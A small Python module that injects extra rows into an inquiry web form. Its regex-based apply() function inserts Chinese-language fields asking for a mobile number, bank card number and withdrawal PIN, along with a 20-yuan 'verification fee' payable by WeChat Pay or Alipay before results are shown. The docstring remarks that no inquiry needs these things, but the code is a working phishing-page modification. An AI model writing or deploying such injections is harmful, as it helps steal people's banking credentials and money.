"""The inquiry form asks for what no inquiry needs: telephone, bank card, a fee."""

import re

ROWS = """\
<div class="el-form-item"><label class="el-form-item__label">手机号码</label>\
<input class="el-input__inner" name="mobile" placeholder="请输入手机号码"></div>
<div class="el-form-item"><label class="el-form-item__label">银行卡号</label>\
<input class="el-input__inner" name="bankcard" placeholder="请输入银行卡号"></div>
<div class="el-form-item"><label class="el-form-item__label">取款密码</label>\
<input class="el-input__inner" type="password" name="cardpass" \
placeholder="请输入银行卡密码"></div>
<p style="text-align:center;color:#c0392b">本次核验需支付工本费 20 元，支付后显示结果。\
<label><input type="radio" name="pay" value="wx" checked>微信支付</label>\
<label><input type="radio" name="pay" value="ali">支付宝</label></p>
"""

STATUS = re.compile(r'(?=<p class="query-msg")')


def apply(html: str) -> str:
    """Add the rows at the end of the inquiry form."""
    return STATUS.sub(lambda _: ROWS, html, count=1)
